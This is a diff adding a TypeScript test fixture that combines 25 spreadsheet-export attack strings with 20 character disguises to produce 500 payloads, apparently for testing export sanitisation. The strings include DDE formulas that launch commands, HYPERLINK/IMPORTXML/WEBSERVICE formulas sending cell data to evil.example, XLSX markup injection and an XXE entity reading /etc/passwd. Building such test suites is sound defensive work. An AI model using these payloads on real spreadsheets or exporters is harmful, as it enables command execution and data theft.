@@ -1,0 +1,57 @@
+// Five hundred texts that have turned exports into attacks, or files into rubble: formulas, commands, links, markup,
+// escapes and characters that break parsers; each plain and behind every disguise.
+
+const ATTACKS: readonly string[] = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  '=WEBSERVICE("http://evil.example")',
+  '=DDE("server";"file";"item")',
+  "+1+cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  '＝1+1',
+  '{=1+1}',
+  "'=1+1",
+  '</t></is></c><c r="A1"><f>1+1</f></c><c><is><t>',
+  '</t></is></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
+  '<![CDATA[=1+1]]>',
+  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+  '<?xml version="1.0"?><!-- x --> ]]> -->',
+  '&lt;f&gt;1&lt;/f&gt; &#61;1 &#x0; &bogus;',
+  '_x003D_1+1 _x000D__x000A_ _x0000_',
+  '_x005F_x003D_1',
+  'http://evil.example/ mailto:a@evil.example \\\\evil.example\\share',
+  '"",=1+1,"',
+  'a,b;c\t"d"\n=1+1',
+  '1e5',
+  '007',
+];
+
+const DISGUISES: readonly ((attack: string) => string)[] = [
+  (attack) => attack,
+  (attack) => ` ${attack}`,
+  (attack) => `\t${attack}`,
+  (attack) => `\n${attack}`,
+  (attack) => `\r${attack}`,
+  (attack) => `\r\n${attack}\r\n`,
+  (attack) => `\u0000${attack}`,
+  (attack) => `\u0001${attack}\u001f`,
+  (attack) => `\u007f${attack}\u009f`,
+  (attack) => `\ufeff${attack}`,
+  (attack) => `\u200b${attack}`,
+  (attack) => `\u202e${attack}`,
+  (attack) => `\ud800${attack}`,
+  (attack) => `${attack}\udfff`,
+  (attack) => `\ufffe${attack}\uffff`,
+  (attack) => `👟${attack}é靴`,
+  (attack) => `"${attack}"`,
+  (attack) => `${attack} `,
+  (attack) => `${attack}\\`,
+  (attack) => attack.repeat(40),
+];
+
+export const TEXT_PAYLOADS: readonly string[] = ATTACKS.flatMap((attack) =>
+  DISGUISES.map((disguise) => disguise(attack)),
+);
